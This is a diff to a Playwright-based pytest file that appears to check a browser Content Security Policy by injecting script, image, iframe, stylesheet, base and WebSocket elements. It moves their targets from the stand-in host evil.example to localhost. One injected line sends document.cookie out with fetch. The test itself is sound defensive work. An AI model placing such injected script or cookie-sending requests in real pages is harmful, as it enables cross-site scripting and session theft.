@@ -17,24 +17,25 @@ SLIPPED_IN = """() => {
   window.ran = [];
   const add = (name, rest) => document.body.append(Object.assign(document.createElement(name), rest));
   add('script', { textContent: "window.ran.push('inline script')" });
-  add('script', { src: 'https://evil.example/a.js' });
-  add('img', { src: 'https://evil.example/a.png' });
+  add('script', { src: 'http://127.0.0.1:49151/a.js' });
+  add('img', { src: 'http://127.0.0.1:49151/a.png' });
   add('div', { innerHTML: '<img src="/no" onerror="window.ran.push(\\'handler\\')">' });
   add('iframe', { srcdoc: "<script>parent.ran.push('frame')</script>" });
-  add('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' });
-  add('base', { href: 'https://evil.example/' });
+  add('link', { rel: 'stylesheet', href: 'http://127.0.0.1:49151/a.css' });
+  add('base', { href: 'http://127.0.0.1:49151/' });
   add('object', { data: '/media/a.svg' });
-  fetch('https://evil.example/?' + document.cookie).catch(() => 0);
-  try { new WebSocket('wss://evil.example') } catch { }
-  try { eval("window.ran.push('eval')") } catch { }
+  fetch('http://127.0.0.1:49151/?' + document.cookie).catch(() => 0);
+  try { new WebSocket('ws://127.0.0.1:49151') } catch { }
+  setTimeout(() => { try { eval("window.ran.push('eval')") } catch { } });
 }"""
+"""Another port is another site too: so the test asks nobody outside of this computer."""
 
 
 @pytest.fixture
 def refused(page: Page) -> list[str]:
     """What the browser refused by our policy, as "directive source"."""
     found: list[str] = []
-    page.expose_function("refused", found.append)
+    page.expose_function("refused", lambda one: found.append(one))
     page.add_init_script(WATCH)
     return found
 
